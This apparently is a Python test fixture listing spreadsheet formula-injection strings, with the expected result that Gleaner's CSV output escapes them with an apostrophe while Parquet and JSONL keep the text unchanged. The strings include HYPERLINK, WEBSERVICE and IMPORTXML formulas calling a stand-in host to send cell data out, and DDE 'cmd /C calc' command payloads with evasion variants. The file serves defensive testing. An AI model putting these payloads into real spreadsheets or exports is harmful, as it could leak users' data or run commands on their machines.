"""Which texts would a spreadsheet take for a formula, if a table of ours held them as they came?"""

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    '"""=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=1+1;=2+2",
    "-",
)
HOLDS = "the CSV's cell begins with an apostrophe; Parquet and JSONL keep the text as it is"
CASES = [
    *(("a cell of every CSV that Gleaner writes", text, HOLDS) for text in FORMULAS),
    *(("the name of a column of a CSV", text, HOLDS) for text in FORMULAS[:6]),
]
